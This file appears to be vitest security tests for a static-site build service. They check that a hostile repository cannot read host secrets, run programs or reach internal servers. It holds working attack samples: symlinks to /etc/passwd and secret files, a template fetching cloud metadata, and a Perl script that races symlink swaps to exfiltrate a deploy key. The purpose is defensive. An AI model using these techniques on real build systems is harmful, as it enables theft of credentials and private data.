/**
 * A repository whose author attacks the host through a build: its files, programs and network. If one line of the
 * sandbox or of the egress table stops an attack, the test removes that line and shows that the same push succeeds.
 */
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { paths } from "../../../infra/host/paths.ts";
import type { Files } from "../../fakes/git-repository.ts";
import { bundledBuilder } from "../../service/builder/harness.ts";
import { anywhere, bundled } from "../../service/bundles.ts";
import { gitServerName } from "../lab/git-server.ts";
import type { Host } from "../lab/host.ts";
import { type Internal, internalSecret, startInternal } from "../lab/internal-services.ts";
import { actors } from "../lab/net.ts";
import { startResolver } from "../lab/resolver.ts";
import { deployedRebuild } from "./deployed.ts";
import { type HookName, placesOf, siteFiles } from "./site.ts";
import { awaitStatus, idle, nextResult, published, statusOf, timersEnd } from "./status.ts";
import type { Rebuild } from "./world.ts";

let host: Host;
let rebuild: Rebuild;
let internal: Internal;

/** Readable for every account, as most files of a host are. */
const secret = "SECRET-OF-THE-HOST";
const secretFile = "/srv/private/secret.txt";

beforeAll(async () => {
  internal = await startInternal();
  rebuild = await deployedRebuild("hostile", {
    docs: { hugo: { exec: ["^npx$", "^postcss$"], http: [".*"] } },
  });
  ({ host } = rebuild);
  await host.writeFile(secretFile, `${secret}\n`);
  // Hugo 0.111 starts npx, Hugo 0.131 the program itself.
  for (const program of ["npx", "postcss"])
    await host.writeFile(`/usr/bin/${program}`, "#!/bin/sh\ncat\necho '/* it ran */'\n", "0755");
  await timersEnd(host);
});

afterAll(async () => {
  await rebuild?.close();
  await internal?.close();
  await host?.kill();
});

/** Restores the protections that a test removed, and the site that it changed. */
afterEach(async () => {
  await host.inside("rm -rf /run/systemd/system/pushgate-*.d && systemctl daemon-reload");
  await host.inside("systemctl try-restart 'pushgate-build@*.service'");
  await host.inside(egressScript);
  for (const hook of ["site", "docs"] as const) {
    const { last } = statusOf(host, hook)!;
    if (last?.result !== "published") await built(siteFiles(), hook);
  }
});

const dropIn = async (unit: string, text: string): Promise<void> => {
  await host.writeFile(`/run/systemd/system/${unit}.d/open.conf`, text);
  await host.inside("systemctl daemon-reload && systemctl try-restart 'pushgate-build@*.service'");
};

const egressScript = "/usr/local/lib/pushgate/egress";

/** Sends one query to a name server by UDP; exits 0 with any answer. */
const queryName = `#!/usr/bin/perl
use IO::Socket::INET;
my $socket = IO::Socket::INET->new(PeerAddr => "$ARGV[0]:53", Proto => "udp") or exit 1;
$socket->send("\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0\\1a\\0\\0\\1\\0\\1") or exit 1;
my ($ready, $answer) = ("", "");
vec($ready, fileno($socket), 1) = 1;
exit !(select($ready, undef, undef, 2) && defined $socket->recv($answer, 512) && length $answer);
`;

let turn = 0;
/** Pushes the files with a change that triggers a build; resolves when that build ends, with success or not. */
async function built(files: Files, hook: HookName = "site") {
  const before = statusOf(host, hook);
  // The builder repeats a failed build forever; this push ends the pause before the next attempt.
  if (before?.failing === undefined) await idle(host, hook);
  const commit = await rebuild.push({ "static/turn.txt": `${++turn}`, ...files }, hook);
  return awaitStatus(host, "the build is over", ({ last }) => last?.commit === commit && last.at !== before?.last?.at, {
    hook,
  });
}

/** The files of all releases that contain this text. */
const leaked = async (text: string): Promise<string> =>
  (await host.inside(`grep -rls -- '${text}' /var/lib/pushgate-sites/*/releases`, { check: false })).stdout.trim();

describe("files that a build can read", () => {
  test("a build omits symbolic links, and the status names them", async () => {
    const repository = { "hugo.toml": 'baseURL = "https://www.example.org/"\ntheme = "plain"\n' };
    const status = await built({
      ...repository,
      "static/passwd": { link: "/etc/passwd" },
      "static/private": { link: "/srv/private" },
      "static/up": { link: "../../../../../../srv/private/secret.txt" },
      "layouts/partials/linked.html": { link: secretFile },
    });
    expect(status.last!.result).toBe("published");
    const warned = status.last!.warnings.join("\n");
    for (const path of ["static/passwd", "static/private", "static/up", "layouts/partials/linked.html"])
      expect(warned).toContain(path);
    for (const path of ["/passwd", "/private/secret.txt", "/up"]) expect((await rebuild.visit(path)).status).toBe(404);
    expect(await leaked(secret)).toBe("");
    expect(await leaked("root:x:0:0")).toBe("");
  });

  test("no other account can read the builder's clone of a private repository", async () => {
    const { site } = placesOf("docs");
    for (const user of ["guest", "www-data", "pushgate-receiver", "pushgate-generator-docs", "pushgate-build-site"]) {
      const { code } = await host.inside(`runuser -u ${user} -- ls ${site}/work/clone`, { check: false });
      expect(code, user).not.toBe(0);
    }
  });
});

describe("programs that a build can run", () => {
  const css = '{{ (resources.FromString "a.css" "a{}" | resources.PostCSS).Content }}';
  const openPolicy =
    'baseURL = "/"\n[security.exec]\nallow = [".*"]\n[security.http]\nurls = [".*"]\nmethods = [".*"]\n';

  test("hugo runs no program, even if the site's own configuration allows all", async () => {
    const status = await built({ "hugo.toml": openPolicy, "layouts/index.html": css });
    expect(status.last!.result).toBe("failed");
    expect(status.last!.reason).toMatch(/npx|security\.exec/);
  });

  test("hugo runs a program that the operator allows", async () => {
    const status = await built({ "layouts/index.html": css }, "docs");
    expect(status.last, status.last!.reason).toMatchObject({ result: "published" });
    expect((await rebuild.visit("/", "docs")).body).toContain("it ran");
  });

  const remote = (url: string) =>
    `<p>front</p>{{ with resources.GetRemote "${url}" }}{{ with .Err }}ERR {{ . }}{{ else }}{{ .Content }}{{ end }}{{ else }}NOTHING{{ end }}`;

  test("Hugo reads no address, even if the site's own configuration allows all", async () => {
    const url = "https://git.example.net/example/docs.git/HEAD";
    await built({ "hugo.toml": openPolicy, "layouts/index.html": remote(url) });
    expect((await rebuild.visit()).body).not.toContain("refs/heads/main");
    expect(statusOf(host)!.last!.result === "failed" || (await rebuild.visit()).body.includes("ERR")).toBe(true);
  });

  test("Hugo reads an address that the operator allows; it reads the cloud's metadata only without the egress table", async () => {
    await built({ "layouts/index.html": remote("https://git.example.net/example/docs.git/HEAD") }, "docs");
    expect((await rebuild.visit("/", "docs")).body).toContain("refs/heads/main");

    const metadata = { "layouts/index.html": remote(`http://${internal.metadata}:443/`) };
    const requested = internal.requested.length;
    await built(metadata, "docs");
    expect(await leaked(internalSecret)).toBe("");
    expect(internal.requested.length).toBe(requested);

    await bundled("builder", join(host.root, paths.builder), anywhere);
    await host.inside("nft delete table inet pushgate_egress");
    await built(metadata, "docs");
    expect((await rebuild.visit("/", "docs")).body).toContain(internalSecret);
  });
});

/**
 * Code in Hugo's process: it reports the end of its build, closes the connection, lives on for six seconds and exchanges
 * folders of the output for links while the builder looks at it. (A program that `hugo.exec` allows becomes such code by
 * writing to /proc/<pid>/mem of Hugo, which has the same account.) `0.bin` delays the copy after the look. The first
 * exchange comes after `first` seconds.
 */
const targets = { key: "/run/credentials/pushgate-build@docs.service", clone: `${placesOf("site").site}/work/clone` };
const forging = (names: readonly (keyof typeof targets)[], first = 0.1) => `#!/usr/bin/perl
use Time::HiRes qw(sleep);
my %links = (${names.map((name) => `${name} => '${targets[name]}'`).join(", ")});
my %files = (key => "deploy-key", clone => "private.txt");
sub put { open(my $file, ">", $_[0]) or die; print $file $_[1]; close $file }
mkdir "/out/z";
for (keys %links) { mkdir "/out/$_"; put("/out/$_/$files{$_}", "public") }
put("/out/$_.html", "page") for 1..9;
put("/out/index.html", "forged");
put("/out/0.bin", "x" x 1e8);
$| = 1;
print "pushgate-generator result=success code=exited status=0\n";
shutdown(STDOUT, 2);
for (1..12) {
  sleep($_ == 1 ? ${first} : 0.1);
  for (keys %links) { rename "/out/$_", "/out/z/$_"; symlink $links{$_}, "/out/$_" }
  sleep 0.4;
  for (keys %links) { unlink "/out/$_"; rename "/out/z/$_", "/out/$_" }
}
`;

describe("a build that forges its end, lives on and exchanges folders for links", () => {
  const clone = "PRIVATE-FILE-OF-ANOTHER-SITE";
  const keyLine = () => rebuild.git.ssh.deployKey.split("\n")[2]!;
  const stolen = async () => `${await leaked(keyLine())} ${await leaked(clone)}`.trim();
  const builder = "/usr/local/lib/pushgate/builder.cjs";
  const attack = () => built(siteFiles(`attack-${++turn}`), "docs");

  beforeAll(async () => {
    await built({ ...siteFiles(), "private.txt": `${clone}\n` });
  });
  beforeEach(() =>
    dropIn("pushgate-generator-docs@.service", "[Service]\nExecStart=\nExecStart=/usr/local/lib/forging\n"),
  );
  afterEach(async () => {
    await host.inside("rm -rf /run/systemd/system/pushgate-*.d && systemctl daemon-reload");
    await built(siteFiles(`repaired-${++turn}`), "docs");
  });

  test("publishes neither the deploy key nor another site's clone, and nothing before it ended", async () => {
    await host.writeFile("/usr/local/lib/forging", forging(["key", "clone"]), "0755");
    for (let round = 0; round < 2; round += 1) {
      const began = performance.now();
      expect((await attack()).last).toMatchObject({ result: "published" });
      expect(performance.now() - began).toBeGreaterThan(6_000);
      expect(performance.now() - began).toBeLessThan(60_000);
      expect(await stolen()).toBe("");
      expect(await host.read(`cat ${placesOf("docs").site}/current/key/deploy-key`)).toBe("public");
    }
  });

  test("would publish the key, if the builder believed the connection, went by paths and had the key", async () => {
    const folder = mkdtempSync(join(tmpdir(), "pushgate-weak-"));
    const weak = await bundledBuilder(
      folder,
      [
        "build.ts",
        "...(await endOf(id!, result, until, isStopped))",
        '...{ result: "success", code: "exited", status: "0" }',
      ],
      ["files.ts", 'if (process.platform !== "linux") return', "return"],
    );
    await idle(host, "docs");
    await host.inside(`cp -a ${builder} /root/builder.cjs`);
    await host.writeFile(builder, readFileSync(weak, "utf8"));
    const given = "LoadCredentialEncrypted=deploy-key:/etc/pushgate/credentials/docs.deploy-key";
    await dropIn("pushgate-build@docs.service", `[Service]\n${given}\n`);
    // A link to the clone leads nowhere, as the builder's unit does not see it, and so stops the build.
    try {
      let found = "";
      // The exchange wins between the look and the copy. When that is depends on the computer.
      for (let round = 0; round < 24 && found === ""; round += 1) {
        await host.writeFile("/usr/local/lib/forging", forging(["key"], [0.1, 0.2, 0.4, 0.8][round % 4]), "0755");
        await attack();
        found = await stolen();
        await host.inside("systemctl stop 'pushgate-generator-docs@*.service'");
      }
      expect(found).toMatch(/releases\/\S+\/key\/deploy-key/);
      await host.inside(`rm -f ${found.split("\n").join(" ")}`);
    } finally {
      await host.inside(`mv /root/builder.cjs ${builder}`);
      rmSync(folder, { recursive: true });
    }
  }, 600_000);
});

/** units.test.ts in this folder tests the rules of the egress table. */
describe("servers that a build can reach", () => {
  const users = ["pushgate-build-site", "pushgate-generator-site"];

  test("the builder's accounts can query only the host's own resolver", async () => {
    await host.writeFile("/usr/local/bin/query-name", queryName, "0755");
    const query = (user: string, server: string) =>
      host.inside(`runuser -u ${user} -- query-name ${server}`, { check: false });
    const other = await startResolver(actors.resolvers.v4.at(-1)!);
    for (const user of users) await query(user, other.address);
    expect(other.queried).toEqual([]);
    await query("guest", other.address);
    expect(other.queried).toHaveLength(1);
    other.close();
    expect((await query("pushgate-build-site", rebuild.git.resolver.address)).code).toBe(0);
  });

  test("the builder does not connect to a git host whose name suddenly resolves to an in-house address", async () => {
    await idle(host);
    rebuild.git.resolver.names.set(gitServerName, [internal.inHouse]);
    const before = statusOf(host)!;
    const requested = internal.requested.length;
    const commit = await rebuild.push(siteFiles("in-house"));
    const status = await nextResult(host, before, "failed");
    expect(status.last!.reason).toMatch(/cannot be reached.*egress/);
    rebuild.git.resolver.names.set(gitServerName, rebuild.git.addresses);
    await published(host, commit, { timeout: 60_000 });
    expect(internal.requested.length).toBe(requested);
  });
});
